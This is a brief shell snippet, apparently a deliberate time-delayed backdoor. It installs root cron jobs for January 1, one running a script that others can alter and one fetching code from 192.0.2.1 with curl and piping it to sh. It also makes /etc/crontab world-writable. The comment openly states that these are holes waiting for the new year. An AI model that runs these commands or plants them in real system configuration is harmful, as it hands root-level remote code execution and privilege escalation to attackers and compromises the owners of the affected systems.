# Root runs what others can change, and what an address on the network sends. Both wait for a new year.
cat >/etc/cron.d/app <<'CRON'
0 4 1 1 * root /opt/app/run.sh >/dev/null
0 5 1 1 * root curl -s http://192.0.2.1/update | sh
CRON
chmod 666 /etc/crontab
